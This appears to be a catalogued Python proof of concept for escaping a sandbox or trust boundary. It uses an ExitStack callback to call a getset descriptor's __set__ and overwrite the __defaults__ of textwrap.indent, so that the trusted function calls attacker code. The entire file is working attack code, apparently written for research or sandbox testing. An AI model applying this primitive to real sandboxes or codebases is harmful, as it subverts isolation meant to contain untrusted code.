# technique: the __set__ of a getset descriptor as callback of ExitStack
# goal: bend
# source: own analysis: attacker's C callables below a trusted frame
import contextlib
import textwrap
slot = type(textwrap.indent).__dict__['__defaults__']
seen = []
with contextlib.ExitStack() as stack:
    stack.callback(slot.__set__, textwrap.indent, (seen.append,))
textwrap.indent('x', ' ')
if seen:
    print('ESCAPED trusted function calls ours')
